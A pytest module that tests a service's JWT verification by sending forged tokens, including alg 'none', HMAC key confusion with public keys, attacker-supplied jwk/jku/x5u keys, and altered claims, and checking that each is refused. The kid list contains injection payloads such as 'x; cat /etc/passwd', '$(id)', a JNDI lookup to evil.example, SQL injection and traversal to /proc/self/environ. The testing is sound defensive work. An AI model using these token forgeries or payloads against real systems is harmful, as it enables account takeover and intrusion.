"""
Tokens that nobody honest sends: each is refused by a started service with its documented status; nothing is written.

The service knows a key of each algorithm, by the kids "EdDSA", "ES256" and "RS256". Each token would be the admin's,
but for what is wrong with it; it is shown to be good without that at the end.
"""

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any, Final

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric import ed25519
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from tests.journey.attacks.standing import untouched
from tests.journey.service import Service
from tests.unit.identity.issuer import ABSENT, PRIVATE, b64, json_of, public, signed

pytestmark = pytest.mark.embedded

ISSUER, AUDIENCE = "https://issuer.example", "tai"
LEEWAY_SECONDS: Final = 30
GRANT: Final = {"tenant_id": "acme", "entitlement_id": "forged", "action": "grant", "plan": "free"}


def good(**claims: Any) -> dict[str, Any]:
    """An admin's claims, but for what is said; ABSENT leaves one out."""
    now = int(time.time())
    every = {"iss": ISSUER, "aud": AUDIENCE, "sub": "mallory", "roles": ["admin"], "tenants": "*"}
    return {**every, "iat": now, "exp": now + 600, **claims}


def token(algorithm: str = "EdDSA", header: Mapping[str, Any] = {}, **claims: Any) -> str:
    """Signed with the service's key of the algorithm."""
    return signed(json_of({"alg": algorithm, "kid": algorithm, **header}), json_of(good(**claims)), algorithm)


def unsigned(header: Mapping[str, Any], signature: bytes = b"", **claims: Any) -> str:
    return f"{b64(json_of(dict(header)))}.{b64(json_of(good(**claims)))}.{b64(signature)}"


def as_secret(secret: bytes, header: Mapping[str, Any], digest: str = "sha256") -> str:
    """Key confusion: an HMAC under what everybody can know of a public key."""
    signing_input = unsigned(header).rpartition(".")[0]
    return f"{signing_input}.{b64(hmac.digest(secret, signing_input.encode(), digest))}"


def spoiled(make: Callable[[str, str, str], str], algorithm: str = "EdDSA") -> str:
    return make(*token(algorithm).split("."))


def changed(payload: str, **claims: Any) -> str:
    return b64(json_of({**json.loads(base64.urlsafe_b64decode(payload + "==")), **claims}))


RSA: Final = PRIVATE["RS256"].public_key()
PEM: Final = RSA.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
SECRETS: Final[Mapping[str, bytes]] = {
    "the PEM": PEM,
    "the PEM without its last line feed": PEM.rstrip(b"\n"),
    "the PEM of PKCS#1": RSA.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
    "the DER": RSA.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
    "the modulus": RSA.public_numbers().n.to_bytes(256, "big"),
    "the JWK": json.dumps(public("RS256", "RS256")._jwk_data).encode(),
    "the Ed25519 key": PRIVATE["EdDSA"].public_key().public_bytes_raw(),
    "nothing": b"",
}
KIDS: Final = (
    "",
    "eddsa",
    "EdDSA ",
    "EdDSA\x00",
    "EdDSA\n",
    "../EdDSA",
    "keys/../EdDSA",
    "../../../../dev/null",
    "/dev/null",
    "/proc/self/environ",
    "signing-key.pem",
    "file:///dev/null",
    "https://evil.example/keys",
    "EdDSA%00",
    "%45dDSA",
    "x' UNION SELECT 'secret' --",
    "x; cat /etc/passwd",
    "$(id)",
    "${jndi:ldap://evil.example/a}",
    "ＥdDSA",
    "EdDSА",
    "__proto__",
    "0",
    "*",
    "a" * 4_000,
    None,
    0,
    True,
    ["EdDSA"],
    {"EdDSA": 1},
)
STRANGER: Final = ed25519.Ed25519PrivateKey.generate()
STRANGERS_JWK: Final = {"kty": "OKP", "crv": "Ed25519", "x": b64(STRANGER.public_key().public_bytes_raw())}


def of_a_stranger(header: Mapping[str, Any]) -> str:
    """Well signed, by a key that the token itself brings along."""
    signing_input = unsigned({"alg": "EdDSA", "kid": "EdDSA", **header}).rpartition(".")[0]
    return f"{signing_input}.{b64(STRANGER.sign(signing_input.encode()))}"


UNSIGNED: Final[Mapping[str, str]] = {
    **{
        f"alg {alg!r}, {name}": unsigned({"alg": alg, "kid": "EdDSA"}, signature)
        for alg in ("none", "None", "NONE", "nOnE", "", None, ABSENT, ["none"], "none\x00", "HS256")
        for name, signature in {"no signature": b"", "a byte": b"\0", "zeros": bytes(64)}.items()
    },
    **{
        f"{alg} under {name}": as_secret(secret, {"alg": alg, "kid": "RS256"}, digest)
        for alg, digest in {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512", "RS256": "sha256"}.items()
        for name, secret in SECRETS.items()
    },
    "HS256 without a kid": as_secret(PEM, {"alg": "HS256"}),
    "stripped": spoiled(lambda head, claims, signature: f"{head}.{claims}."),
    "stripped with its dot": spoiled(lambda head, claims, signature: f"{head}.{claims}"),
    "a signature of one character": spoiled(lambda head, claims, signature: f"{head}.{claims}.A"),
    "cut short": spoiled(lambda head, claims, signature: f"{head}.{claims}.{signature[:-4]}"),
    "with more after it": spoiled(lambda head, claims, signature: f"{head}.{claims}.{signature}AAAA"),
    "a fourth part": spoiled(lambda head, claims, signature: f"{head}.{claims}.{signature}.{signature}"),
    "five parts, as encrypted ones have": spoiled(lambda head, claims, signature: f"{head}.{claims}.{signature}.a.b"),
    "padded": spoiled(lambda head, claims, signature: f"{head}.{claims}.{signature}=="),
    "a claim changed": spoiled(lambda head, claims, signature: f"{head}.{changed(claims, sub='root')}.{signature}"),
    "a header changed": spoiled(lambda head, claims, signature: f"{changed(head, typ='JWT')}.{claims}.{signature}"),
    "parts swapped": spoiled(lambda head, claims, signature: f"{claims}.{head}.{signature}"),
    "a signature of another algorithm's key": f"{token().rpartition('.')[0]}.{token('ES256').rpartition('.')[2]}",
    "another algorithm than the key's": token("EdDSA", {"kid": "ES256"}),
    "another algorithm than it was signed with": token("EdDSA", {"alg": "RS256"}),
    "the JSON form": json.dumps({"payload": "e30", "protected": "e30", "signature": "AAAA"}).replace(" ", ""),
    "hashed by hand": unsigned({"alg": "SHA256", "kid": "EdDSA"}, hashlib.sha256(b"").digest()),
    **{f"kid {kid!r:.40}": token(header={"kid": kid}) for kid in KIDS},
    "no kid": token(header={"kid": ABSENT}),
    "a key of its own": of_a_stranger({}),
    "a key of its own in jwk": of_a_stranger({"jwk": STRANGERS_JWK}),
    "a key of its own at jku": of_a_stranger({"jku": "https://evil.example/keys.json"}),
    "a key of its own at x5u": of_a_stranger({"x5u": "https://evil.example/cert.pem"}),
    "a key of its own in x5c": of_a_stranger({"x5c": [b64(STRANGER.public_key().public_bytes_raw())]}),
    "a key of its own, its kid a URL": of_a_stranger({"kid": "https://evil.example/keys.json", "jwk": STRANGERS_JWK}),
    "an extension": token(header={"crit": ["b64"], "b64": False}),
    "another purpose": token(header={"typ": "logout+jwt"}),
    "nothing but dots": "..",
    "nothing but a letter": "a",
    "over-long": "a" * 9_000 + ".b.c",
}


def claimed(**claims: Any) -> Callable[[], str]:
    """Made when it is sent, as its times count from then."""
    return lambda: token(**claims)


def at(seconds: float, *, lifetime: float = 600) -> dict[str, float]:
    """`iat` and `exp` of a token issued so many seconds from now."""
    return {"iat": time.time() + seconds, "exp": time.time() + seconds + lifetime}


MISUSED: Final[Mapping[str, Callable[[], str]]] = {
    "not good yet": lambda: token(nbf=time.time() + LEEWAY_SECONDS + 60),
    "issued in the future": lambda: token(**at(LEEWAY_SECONDS + 60)),
    "issued in milliseconds": lambda: token(iat=int(time.time() * 1000), exp=int(time.time() * 1000) + 600_000),
    "for ever": claimed(exp=253_402_300_799),
    "without an end": claimed(exp=ABSENT),
    "without a beginning": claimed(iat=ABSENT),
    "its end as text": lambda: token(exp=str(int(time.time()) + 600)),
    "its end before its beginning": lambda: token(iat=time.time() + 20, exp=time.time() + 10),
    "another issuer": claimed(iss="https://evil.example"),
    "an issuer with a slash": claimed(iss=ISSUER + "/"),
    "an issuer in capitals": claimed(iss=ISSUER.upper()),
    "several issuers": claimed(iss=[ISSUER]),
    "no issuer": claimed(iss=ABSENT),
    "another audience": claimed(aud="billing"),
    "an audience that begins so": claimed(aud=AUDIENCE + "-staging"),
    "an audience in capitals": claimed(aud=AUDIENCE.upper()),
    "other audiences": claimed(aud=["billing", "search"]),
    "no audience": claimed(aud=ABSENT),
    "no subject": claimed(sub=ABSENT),
    "a subject with a line break": claimed(sub="a\nb"),
    "no roles": claimed(roles=[]),
    "a role in capitals": claimed(roles=["ADMIN"]),
    "a role with a space": claimed(roles=["admin "]),
    "a role of look-alikes": claimed(roles=["аdmin"]),
    "roles as text": claimed(roles="admin"),
    "roles as members": claimed(roles={"admin": True}),
    "a role within a list": claimed(roles=[["admin"]]),
    "every role": claimed(roles=["*"]),
    "no tenants": claimed(tenants=ABSENT),
    "tenants null": claimed(tenants=None),
    "an empty list of tenants": claimed(tenants=[]),
    "every tenant in a list": claimed(tenants=["*"]),
    "a tenant as text": claimed(tenants="acme"),
    "tenants as members": claimed(tenants={"acme": True}),
    "every tenant as true": claimed(tenants=True),
    "the fleet": claimed(tenants=["~fleet"]),
    "a member twice": lambda: signed(
        json_of({"alg": "EdDSA", "kid": "EdDSA"}), json_of(good())[:-1] + b', "tenants": "*"}', "EdDSA"
    ),
}


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    directory: Path = tmp_path_factory.mktemp("tokens")
    keys = [public(algorithm, algorithm)._jwk_data for algorithm in PRIVATE]
    (directory / "keys.json").write_text(json.dumps({"keys": keys}))
    named = {"JWT_KEYS": str(directory / "keys.json"), "JWT_ISSUER": ISSUER, "JWT_AUDIENCE": AUDIENCE}
    with Service(directory / "data", environ=named) as started, started.client(token()) as admin:
        for tenant in ("acme", "beta"):
            grant = {"tenant_id": tenant, "entitlement_id": "ent_1", "action": "grant", "plan": "free"}
            assert admin.post("/marketplace", json=grant).status_code == 200
        yield started


def refused(client: httpx.Client, bearer: str) -> str:
    """The reason, the same for whoever writes and whoever reads what is there or is not; each a 401."""
    headers = {"Authorization": f"Bearer {bearer}"}
    answers = (
        client.post("/marketplace", json=GRANT, headers=headers),
        client.get("/v1/tenants/acme", headers=headers),
        client.get("/v1/tenants/ghost", headers=headers),
    )
    reasons = {answer.json()["reason"] for answer in answers}
    assert [answer.status_code for answer in answers] == [401] * 3, (bearer[:80], [each.text for each in answers])
    for answer in answers:
        assert answer.headers["www-authenticate"].startswith('Bearer realm="tai-autonomics"')
        assert answer.headers["content-type"] == "application/problem+json"
        assert "evil.example" not in answer.text
    (reason,) = reasons
    return str(reason)


def test_a_token_that_nobody_signed_here_is_a_401(service: Service) -> None:
    with untouched(service), service.client("") as client:
        reasons = {name: refused(client, forged) for name, forged in UNSIGNED.items()}
    assert set(reasons.values()) == {"unauthenticated", "signature_invalid"}
    for name in ("a claim changed", "a key of its own in jwk", "cut short", "RS256 under the PEM"):
        assert reasons[name] == "signature_invalid", name
    for name in ("alg 'none', no signature", "HS256 under the PEM", "stripped", "no kid"):
        assert reasons[name] == "unauthenticated", name


def test_a_token_of_another_time_place_or_shape_is_a_401(service: Service) -> None:
    with untouched(service), service.client("") as client:
        assert {name: refused(client, make()) for name, make in MISUSED.items()} == dict.fromkeys(
            MISUSED, "unauthenticated"
        )


@pytest.mark.parametrize("algorithm", PRIVATE)
def test_an_expired_token_is_a_401_that_says_so(service: Service, algorithm: str) -> None:
    with untouched(service), service.client("") as client:
        for ago in (LEEWAY_SECONDS + 601, 86_400 * 365):
            assert refused(client, token(algorithm, **at(-ago))) == "token_expired"


def test_a_token_that_was_good_is_refused_once_it_has_expired(service: Service) -> None:
    """It is kept for a while after it was verified, and no longer than it is good."""
    ending = token(**at(-600 - LEEWAY_SECONDS + 2))
    until = time.monotonic() + 20
    with service.client(ending) as client:
        assert client.get("/v1/tenants/acme").status_code == 200
        while (answer := client.get("/v1/tenants/acme")).status_code == 200:
            assert time.monotonic() < until
    assert (answer.status_code, answer.json()["reason"]) == (401, "token_expired")


def test_a_token_of_one_tenant_is_a_403_at_another_there_or_not(service: Service) -> None:
    with untouched(service), service.client(token(tenants=["acme"])) as client:
        for tenant in ("beta", "ghost", "ACME", "Acme", "acme-2", "acm"):
            for answer in (
                client.post("/marketplace", json={**GRANT, "tenant_id": tenant}),
                client.get(f"/v1/tenants/{tenant}"),
                client.post(f"/v1/tenants/{tenant}/governor/pause"),
            ):
                assert (answer.status_code, answer.json()["reason"]) == (403, "tenant_forbidden"), tenant


@pytest.mark.parametrize(
    ("header", "status", "reason"),
    [
        ({"Authorization": "Basic {}"}, 401, "unauthenticated"),
        ({"Authorization": "JWT {}"}, 401, "unauthenticated"),
        ({"Authorization": "{}"}, 401, "unauthenticated"),
        ({"Authorization": "Bearer\t{}"}, 401, "unauthenticated"),
        ({"Authorization": 'Bearer "{}"'}, 401, "unauthenticated"),
        ({"Authorization": "Bearer token={}"}, 401, "unauthenticated"),
        ({"Authorization": "Bearer Bearer {}"}, 401, "unauthenticated"),
        ({"Proxy-Authorization": "Bearer {}"}, 401, "unauthenticated"),
        ({"X-Authorization": "Bearer {}"}, 401, "unauthenticated"),
        ({"X-Forwarded-Access-Token": "{}"}, 401, "unauthenticated"),
        ({"X-Goog-Authenticated-User-Email": "accounts.google.com:admin@tai.example"}, 401, "unauthenticated"),
        ({"X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1"}, 401, "unauthenticated"),
        ({"Cookie": "access_token={}; session={}"}, 401, "unauthenticated"),
    ],
)
def test_a_good_token_in_another_place_is_none(
    service: Service, header: dict[str, str], status: int, reason: str
) -> None:
    sent = {name: value.replace("{}", token()) for name, value in header.items()}
    with untouched(service), service.client("") as client:
        for answer in (
            client.post("/marketplace", json=GRANT, headers=sent),
            client.post("/marketplace", json=GRANT, headers=sent, params={"access_token": token()}),
        ):
            assert (answer.status_code, answer.json()["reason"]) == (status, reason)


def test_what_was_refused_is_not_in_the_log(service: Service) -> None:
    forged = token(iss="https://evil.example", sub="a-name-nobody-has")
    with service.client(forged) as client:
        assert client.get("/v1/tenants/acme").status_code == 401
    log = "".join(service.output)
    assert forged not in log
    assert forged.rpartition(".")[2] not in log
    assert "a-name-nobody-has" not in log
    assert '"severity":"ERROR"' not in log


@pytest.mark.parametrize("algorithm", PRIVATE)
def test_the_same_tokens_unspoiled_are_good(service: Service, algorithm: str) -> None:
    with service.client(token(algorithm)) as client:
        answer = client.post("/marketplace", json={**GRANT, "entitlement_id": f"by-{algorithm}"})
    assert answer.status_code == 200
